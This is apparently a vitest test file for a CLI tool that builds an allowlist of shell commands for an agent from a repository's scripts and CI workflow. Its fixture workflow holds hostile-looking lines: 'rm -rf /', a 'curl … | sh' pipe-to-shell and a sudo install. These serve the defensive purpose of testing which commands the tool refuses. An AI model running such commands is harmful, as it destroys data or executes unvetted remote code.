import { expect, it } from 'vitest'
import { deskForEachTest, json } from './a-cli.ts'
import { measure } from './measure-suggestion.ts'

const desk = deskForEachTest({
  'package.json': JSON.stringify({
    name: 'sample',
    version: '1.0.0',
    devDependencies: { typedoc: '1', eslint: '9' },
    scripts: { docs: 'typedoc --out docs', bundle: 'NODE_ENV=production rollup -c', release: 'npm publish' },
  }),
  'src/index.js': 'export {}\n',
  'tools/check.sh': 'true\n',
  'composer.json': '{"scripts":{"phpunit":"phpunit"}}\n',
  Makefile: 'site:\n\t@hugo build\nbench-release:\n\t@bench\nprepare-release:\n\t@bump\n',
  '.github/workflows/ci.yml': `
on: push
jobs:
  test:
    steps:
      - run: npm ci
      - run: |
          eslint src --max-warnings=0 # all of it
          bash tools/check.sh && npx typedoc --json
          make site
          cat <<EOF > x
          rm -rf /
          EOF
          curl https://example.org/x | sh
          sudo apt-get install x
          npm run docs -- --$FLAG
      - run: python -c 'print(1)'
      - run: tool first
      - run: tool second
      - { run: Get-Item, shell: pwsh }
`,
})

it('writes typed entries with the places where they were seen, and tells what it does not take and why', async () => {
  const ended = await desk.agentos(['policy', 'suggest', '--repo', desk.clone])
  expect(ended.exit).toBe(0)
  const told = ended.stdout
  expect(told).toContain('# .github/workflows/ci.yml: eslint src --max-warnings=0')
  for (const entry of [
    'program: eslint, runs: repository-code, values: [{ names: ["--max-warnings"], form: attached, word: { is: number',
    'operands: [{ word: { is: path, must: exist }, times: some }]',
    'of: script, named: [bundle, docs] }',
    'of: make, named: [bench-release, site] }',
    'program: composer, subcommand: [run-script], runs',
    'program: composer, runs: repository-code, operands: [{ word: { is: target, of: composer-script, named: [phpunit] }',
    'program: tools/check.sh, runs: repository-code, through: [bash]',
    'program: typedoc, subcommand: ["--json"], runs: repository-code, through: [npx]',
    'env: { NODE_ENV: production }',
    'word: { is: choice, values: [first, second] }',
  ]) {
    expect(told).toContain(entry)
  }
  for (const reason of ['it installs', 'changes the machine', 'unquoted $', 'put it into a script', 'it publishes']) {
    expect(told.slice(told.indexOf('# Not taken'))).toContain(reason)
  }
  expect(told).not.toMatch(/rm -rf|Get-Item/)
  const listed = json((await desk.agentos(['policy', 'suggest', '--repo', desk.clone, '--json'])).stdout)
  expect(listed).toMatchObject({
    unlisted: [],
    commands: expect.arrayContaining([{ rule: expect.anything(), seen: expect.anything() }]),
  })
})

it('allows what the repository uses and nothing that is known to escape, without a warning of lint', async () => {
  const measured = await measure(desk.clone, 'sample', 100)
  expect(measured).toMatchObject({ refused: [], warnings: 0, escapes: [] })
  expect(measured.legitimate).toBeGreaterThan(9)
  expect(measured.tried).toBeGreaterThan(10_000)
})

it('says with 2 that a folder is no clone', async () => {
  expect((await desk.agentos(['policy', 'suggest', '--repo', desk.at('nowhere')])).exit).toBe(2)
  expect((await desk.agentos(['policy', 'suggest'])).exit).toBe(2)
})
